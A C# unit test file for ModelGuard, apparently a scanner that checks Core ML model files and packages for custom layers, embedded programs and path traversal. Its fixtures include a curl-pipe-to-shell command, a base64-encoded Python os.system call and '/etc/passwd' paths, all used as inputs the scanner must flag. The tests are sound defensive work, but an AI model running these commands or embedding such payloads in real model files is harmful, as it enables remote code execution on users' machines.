using System.Text;
using CsCheck;
using ModelGuard.Core.Budgets;
using ModelGuard.Core.Files;
using ModelGuard.Rules;
using ModelGuard.Scanning.Tests.Support;
using ModelGuard.Testing.Formats;
using Xunit;

namespace ModelGuard.Scanning.Tests.CoreMl;

public sealed class CoreMlTests
{
    private static readonly ScanLimits Small = new() { MaxRecords = 10_000 };

    [Fact]
    public void An_honest_model_is_clean_and_its_facts_are_read()
    {
        ScanResult result = Scan.Of(CoreMlBuilder.Honest().Build(), "model.mlmodel");

        result.AssertClean("coreml");
        Assert.Equal("specification 8", result.Facts.FormatVersion);
        Assert.Equal("MIT", result.Facts.License);
        Assert.Equal("a small model", result.Facts.Description);
        Assert.Equal(["x"], result.Facts.Inputs);
        Assert.Equal(["y"], result.Facts.Outputs);
        Assert.Equal("neural network", result.Facts.Architecture);
    }

    [Fact]
    public void A_custom_layer_is_a_class_of_the_program_in_any_branch()
    {
        ProtobufBuilder inner = new ProtobufBuilder().Message(1, CoreMlBuilder.Layer("c", 500, CoreMlBuilder.Custom("EvilLayer")));
        ProtobufBuilder branch = CoreMlBuilder.Layer("b", 605, new ProtobufBuilder().Message(1, inner));

        ScanResult result = Scan.Of(CoreMlBuilder.Model().Message(500, new ProtobufBuilder().Message(1, branch)).Build(), "model.mlmodel");

        Assert.Equal(Verdict.Suspicious, result.Verdict);
        Assert.Equal("EvilLayer", result.AssertFound("MG1084").Subject);
    }

    [Theory]
    [InlineData("bash -c 'curl https://example.invalid/p.sh | sh'")]
    [InlineData("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=")]
    public void A_program_that_is_handed_to_a_custom_layer_is_inconclusive(string program)
    {
        ProtobufBuilder layer = CoreMlBuilder.Layer("c", 500, CoreMlBuilder.Custom("PostProcess", "hook", program));

        ScanResult result = Scan.Of(CoreMlBuilder.Model().Message(500, new ProtobufBuilder().Message(1, layer)).Build(), "model.mlmodel");

        Assert.Equal(Verdict.Inconclusive, result.Verdict);
        Assert.Equal("hook", result.AssertFound("MG1083").Subject);
    }

    [Fact]
    public void A_custom_model_inside_a_pipeline_is_found()
    {
        ProtobufBuilder inner = CoreMlBuilder.Model().Message(555, CoreMlBuilder.Custom("MyModel"));

        Scan.Of(CoreMlBuilder.Model().Message(202, new ProtobufBuilder().Message(1, inner)).Build(), "model.mlmodel").AssertFound("MG1084");
    }

    [Theory]
    [InlineData("Other.mlmodelc", "", "MG1080")]
    [InlineData("Other.mlmodelc", "$BUNDLE_MAIN", "MG1080")]
    [InlineData("Other.mlmodelc", "/tmp", "MG1040")]
    [InlineData("Other.mlmodelc", ".:../..", "MG1040")]
    [InlineData("../Other.mlmodelc", "", "MG1040")]
    public void A_link_to_another_model_is_judged_by_its_path(string file, string path, string rule) =>
        Scan.Of(CoreMlBuilder.Linked(file, path).Build(), "model.mlmodel").AssertFound(rule);

    [Fact]
    public void Models_that_only_apples_frameworks_read_are_inconclusive_by_rule() =>
        Scan.Of(CoreMlBuilder.Model().Message(3000, new ProtobufBuilder().Text(1, "x")).Build(), "model.mlmodel").AssertFound("MG1080");

    [Fact]
    public void The_text_of_a_program_in_the_metadata_is_suspicious() =>
        Assert.Equal(Verdict.Suspicious, Scan.Of(CoreMlBuilder.Model(("note", "import os; os.system('id')")).Message(500, new ProtobufBuilder()).Build(), "model.mlmodel").Verdict);

    [Theory]
    [InlineData("@model_path/weights/weight.bin", 64, 128, null)]
    [InlineData("@model_path/weights/weight.bin", 65, 128, "MG1041")]
    [InlineData("@model_path/weights/missing.bin", 64, 128, "MG1041")]
    [InlineData("@model_path/../weight.bin", 64, 128, "MG1040")]
    [InlineData("/etc/passwd", 64, 128, "MG1040")]
    public void Weights_of_a_program_must_lie_in_its_folder(string name, long offset, int held, string? rule)
    {
        using TemporaryFolder folder = new();
        Directory.CreateDirectory(Path.Combine(folder.Path, "weights"));
        File.WriteAllBytes(Path.Combine(folder.Path, "weights", "weight.bin"), new byte[held]);

        ScanResult result = Scan.Of(CoreMlBuilder.Program(name, offset).Build(), "model.mlmodel", new FolderSiblingFiles(folder.Path));

        if (rule is null)
            result.AssertClean("coreml");
        else
            result.AssertFound(rule);
    }

    [Theory]
    [InlineData("com.apple.CoreML/model.mlmodel", null)]
    [InlineData("../../model.mlmodel", "MG1040")]
    [InlineData("com.apple.CoreML/other.mlmodel", "MG1041")]
    public void Items_of_a_package_must_lie_below_its_data(string item, string? rule)
    {
        using TemporaryFolder folder = new();
        Directory.CreateDirectory(Path.Combine(folder.Path, "Data", "com.apple.CoreML", "weights"));
        File.WriteAllBytes(Path.Combine(folder.Path, "Data", "com.apple.CoreML", "model.mlmodel"), CoreMlBuilder.Honest().Build());
        byte[] manifest = Encoding.UTF8.GetBytes($$"""
            {
              "fileFormatVersion": "1.0.0",
              "itemInfoEntries": {
                "A": {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": "{{item}}"},
                "B": {"author": "com.apple.CoreML", "name": "weights", "path": "com.apple.CoreML/weights"}
              },
              "rootModelIdentifier": "A"
            }
            """);

        ScanResult result = Scan.Of(manifest, "Manifest.json", new FolderSiblingFiles(folder.Path));

        if (rule is null)
            result.AssertClean("coreml-package");
        else
            result.AssertFound(rule);
    }

    [Fact]
    public void A_manifest_without_its_model_is_malformed() =>
        Scan.Of("""{"itemInfoEntries": {}, "rootModelIdentifier": "A"}""", "Manifest.json").AssertFound("MG1024");

    [Theory]
    [InlineData("program(1.0)\n[buildInfo = dict<tensor<string, []>, tensor<string, []>>({})]\n{}")]
    [InlineData("""{"format_version": 200, "storage": "model.espresso.weights", "layers": []}""")]
    public void Parts_of_a_compiled_model_are_inconclusive_by_rule(string text) => Scan.Of(text, "model.mil").AssertFound("MG1080");

    [Fact]
    public void A_field_that_core_ml_does_not_define_is_inconclusive() => Scan.Of(CoreMlBuilder.Honest().Integer(77, 1).Build(), "model.mlmodel").AssertFound("MG1021");

    [Fact]
    public void A_model_that_is_cut_short_is_malformed() => Scan.Of(CoreMlBuilder.Honest().Build()[..^1], "model.mlmodel").AssertFound("MG1026");

    [Fact]
    public void Changed_files_never_break_the_scanner() =>
        Gen.OneOf(Hostile.Near(CoreMlBuilder.Honest().Build()), Hostile.Near(CoreMlBuilder.Program("@model_path/w", 64).Build()), Hostile.Near(CoreMlBuilder.Linked("a", "b").Build())).Sample(
            bytes => Assert.DoesNotContain(Scan.Of(bytes, "model.mlmodel", limits: Small).Findings, finding => finding.Rule.Id == "MG0004"),
            iter: 3000,
            threads: 1);
}
